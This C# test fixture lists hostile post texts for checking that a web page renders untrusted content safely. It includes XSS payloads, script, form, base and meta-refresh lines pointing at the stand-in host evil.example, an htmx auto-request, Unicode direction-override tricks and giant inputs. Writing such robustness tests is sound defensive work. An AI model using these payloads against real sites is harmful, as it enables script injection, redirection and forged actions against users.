using System.Text;

namespace Auscult.Web.Tests.Pages;

/// <summary>Thirty posts made to break a page: each holds a phrase that makes it an item, and something nasty around it.</summary>
internal static class HostileTexts
{
    /// <summary>What every one of them says, so that it opens an item.</summary>
    public const string Phrase = "Started Lexapro last week and now I have terrible insomnia";

    public static IReadOnlyList<(string Name, string Text)> All { get; } =
    [
        ("script", $"<script>document.title='owned'</script> {Phrase}"),
        ("script in capitals", $"<SCRIPT SRC=//evil.example/x.js></SCRIPT> {Phrase}"),
        ("image with a handler", $"<img src=x onerror=alert(1)> {Phrase}"),
        ("vector with a handler", $"<svg/onload=alert(1)> {Phrase}"),
        ("frame", $"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe> {Phrase}"),
        ("style", $"<style>*{{display:none}}</style> {Phrase}"),
        ("base", $"<base href=//evil.example/> {Phrase}"),
        ("form", $"</form><form action=//evil.example><button>Open case</button> {Phrase}"),
        ("end of everything", $"</p></div></section></main></body></html> {Phrase}"),
        ("comment", $"<!-- {Phrase} -- > <![CDATA[ {Phrase}"),
        ("attribute break", $"\"' onmouseover=alert(1) x=\" {Phrase}"),
        ("template", $"{{{{constructor.constructor('alert(1)')()}}}} @(1+1) ${{7*7}} {Phrase}"),
        ("htmx", $"<div hx-get=/inbox/decide hx-trigger=load></div> {Phrase}"),
        ("entities", $"&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp; {Phrase}"),
        ("javascript address", $"[click](javascript:alert(1)) javascript:alert(1) {Phrase}"),
        ("meta refresh", $"<meta http-equiv=refresh content=0;url=//evil.example> {Phrase}"),
        ("direction override", $"\u202e{Phrase} gnihtemos\u202c \u202d{Phrase}"),
        ("direction override without end", $"{Phrase} \u202e\u202e\u202e\u2067\u2066 never closed"),
        ("isolates", $"\u2068\u2067\u2066 {Phrase} \u2069\u2069\u2069\u2069"),
        ("right to left", $"مرحبا بالعالم {Phrase} שלום עולם"),
        ("giant combining sequence", $"{Phrase} Z{Marks(3000)}a{Marks(3000)}"),
        ("marks at the beginning", $"{Marks(500)}{Phrase}"),
        ("null bytes", $"{Phrase}\0\0\0 and \0more"),
        ("controls", $"{Phrase} \u0001\u0007\u0008\u001b[31mred\u001b[0m\u007f\u0085\u009b"),
        ("halves of characters", $"{Phrase} \ud83d x \ude00 \udc00\ud800"),
        ("zero width", $"{Phrase} {Repeat("\u200b\u200d\ufeff\u2060", 500)}"),
        ("one long word", $"{Phrase} {new string('W', 100_000)}"),
        ("a megabyte", $"{Phrase} {Repeat("and then it rained all day ", 37_000)}"),
        ("deep tags", $"{Phrase} {Repeat("<div><b>", 20_000)}"),
        ("line breaks", $"{Phrase}{new string('\n', 5_000)}end\r\u2028\u2029end"),
        ("invisible tags", $"{Phrase} \U0001F3F4{Repeat("\U000E0067", 2000)}\U000E007F"),
        ("nothing but marks of placeholders", $"⟦phone⟧⟦⟦⟦person:x⟧⟧ {Phrase} and nausea {Repeat("⟦", 2000)}"),
    ];

    private static string Marks(int count) => Repeat("\u0301\u0316\u0489", count / 3);

    private static string Repeat(string text, int times) => new StringBuilder().Insert(0, text, times).ToString();
}
